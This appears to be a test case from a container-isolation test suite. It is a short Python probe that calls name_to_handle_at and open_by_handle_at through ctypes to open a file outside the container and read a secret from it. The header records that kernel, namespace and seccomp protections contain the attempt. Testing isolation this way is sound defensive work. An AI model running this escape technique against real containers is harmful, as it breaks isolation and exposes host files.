# attack: asks for a file handle of a file outside and opens that, as a root in a container may
# full: contained
# reduced: contained
# stopped-by: kernel, namespaces, seccomp
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(numbers, *arguments):
    number = numbers.get(platform.machine())
    if number is None:
        raise OSError("no system call numbers for this machine")
    whole = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *whole)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def attack():
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little"), 8 + 128)
    mount = ctypes.c_int()
    syscall({"x86_64": 303, "aarch64": 264}, -100, SECRET.encode(), handle, ctypes.byref(mount), 0)
    folder = os.open(FOLDER, os.O_RDONLY)
    text = os.read(syscall({"x86_64": 304, "aarch64": 265}, folder, handle, os.O_RDONLY), 100)
    return f"through: {text!r}" if text.startswith(b"the secret is ") else "held: another file"
